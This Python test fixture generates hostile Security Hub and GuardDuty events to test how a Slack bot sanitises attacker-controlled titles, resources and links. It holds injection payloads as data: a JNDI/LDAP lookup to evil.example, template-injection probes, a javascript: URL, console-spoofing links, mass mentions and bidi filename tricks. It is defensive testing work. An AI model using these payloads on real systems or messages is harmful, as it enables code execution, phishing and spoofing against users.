"""Events made by somebody who wants to break the bot, or to use it against its readers.

Whoever names a bucket or a user decides on a text that ends in Slack. Each case is a well-formed event with one nasty
thing in it; what is not even an event (unreadable JSON) is made in the tests. `CASES` names them, so that a failing
test says which.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime
from typing import Any, TypeAlias

from sandbox.company import Company
from sandbox.events import guardduty
from sandbox.events import securityhub as hub
from sandbox.events.scene import Event, Scene

Spoil: TypeAlias = Callable[[dict[str, Any]], None]

MENTIONS = "<!channel> <!here> <!everyone> <@U0ANA> <#C0SECPROD> <!subteam^S0ONCALL> @channel"
LINKS = "<http://evil.example|console> <https://evil.example|https://console.aws.amazon.com> http://evil.example"
MARKUP = "```code``` `tick` *bold* _it_ ~gone~ > quote &lt;b&gt; &amp; <b>html</b> | --- |"
BIDI = "invoice\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff zero width"
CONTROL_CHARACTERS = "bell\x07 escape\x1b[31mred nul\x00 newline\nline\ttab"
TEMPLATE = "{{ cycler.__init__.__globals__ }} {% raw %} ${jndi:ldap://evil.example/a} %(name)s {0.__class__}"
LONE_SURROGATE = "half a face \ud83d and more"
COMBINING = "Z" + "\u0351\u0333\u0489" * 60


def _set(**fields: object) -> Spoil:
    return lambda finding: finding.update(fields)


def _title(text: str) -> Spoil:
    return _set(Title=text, Description=text)


def _resource(text: str) -> Spoil:
    return lambda finding: finding["Resources"][0].update(Id=f"arn:aws:s3:::{text}", Tags={text[:120]: text[:250]})


def _many_resources(finding: dict[str, Any]) -> None:
    first = finding["Resources"][0]
    finding["Resources"] = [first | {"Id": f"{first['Id']}-{number}"} for number in range(60)]


def _no_optional_fields(finding: dict[str, Any]) -> None:
    for name in ("ProductFields", "Workflow", "Compliance", "Remediation", "FindingProviderFields", "AwsAccountName"):
        finding.pop(name, None)
    finding["Severity"] = {"Normalized": 70}


def _wrong_types(finding: dict[str, Any]) -> None:
    finding.update(Title=["a", "list"], Description=None, Resources="none", Severity="HIGH", Types=7)


def _deep(finding: dict[str, Any]) -> None:
    tower: dict[str, Any] = {}
    for _ in range(200):
        tower = {"x": tower}
    finding["Resources"][0]["Details"] = {"Other": tower}


def _empty(finding: dict[str, Any]) -> None:
    finding.update(Title="", Description="", Resources=[], Types=[])


CASES: dict[str, Spoil] = {
    "mentions in the title": _title(MENTIONS),
    "links in the title": _title(LINKS),
    "markup in the title": _title(MARKUP),
    "text that runs backwards": _title(BIDI),
    "control characters": _title(CONTROL_CHARACTERS),
    "a template in the title": _title(TEMPLATE),
    "a lone surrogate": _title(LONE_SURROGATE),
    "piled up accents": _title(COMBINING),
    "five thousand characters": _title("long " * 1_000),
    "one word of five thousand letters": _title("x" * 5_000),
    "mentions in a resource": _resource(MENTIONS),
    "links in a resource": _resource(LINKS),
    "markup in a resource": _resource(MARKUP),
    "a resource that runs backwards": _resource(BIDI),
    "a resource of five thousand letters": _resource("r" * 5_000),
    "sixty resources": _many_resources,
    "no optional fields": _no_optional_fields,
    "wrong types": _wrong_types,
    "nothing to say": _empty,
    "two hundred levels": _deep,
    "times that are none": _set(UpdatedAt="yesterday", CreatedAt="", FirstObservedAt="0000-00-00T00:00:00Z"),
    "a far future": _set(UpdatedAt="9999-12-31T23:59:59.999Z"),
    "an unknown severity": _set(Severity={"Label": "<!channel>", "Normalized": 1_000}),
    "an account that is none": _set(AwsAccountId="<@U0ANA>", AwsAccountName=MENTIONS),
    "a remediation link that is none": _set(
        Remediation={"Recommendation": {"Text": LINKS, "Url": "javascript:alert(1)//|console>"}}
    ),
}


def hostile(company: Company, now: datetime) -> list[Event]:
    """One event for each of `CASES`, in order, and two GuardDuty findings whose user and domain are nasty."""
    scene = Scene(company.account("sandbox-ana"), company.security.id, company.region, now, now)
    events = []
    for number, spoil in enumerate(CASES.values()):
        finding = hub.control_finding(scene, "S3.8", 900 + number)
        spoil(finding)
        events.append(hub.imported(scene, finding))
    return [*events, _hostile_user(scene), _hostile_domain(scene)]


def _hostile_user(scene: Scene) -> Event:
    event = guardduty.finding(scene, "CredentialAccess:IAMUser/AnomalousBehavior", 901)
    event["detail"]["resource"]["accessKeyDetails"]["userName"] = MENTIONS
    event["detail"]["title"] = f"{MENTIONS} {LINKS}"
    return event


def _hostile_domain(scene: Scene) -> Event:
    event = guardduty.finding(scene, "CryptoCurrency:EC2/BitcoinTool.B!DNS", 902)
    event["detail"]["service"]["action"]["dnsRequestAction"]["domain"] = "<http://evil.example|pool.example.com>"
    event["detail"]["service"]["action"]["dnsRequestAction"]["protocol"] = BIDI
    return event
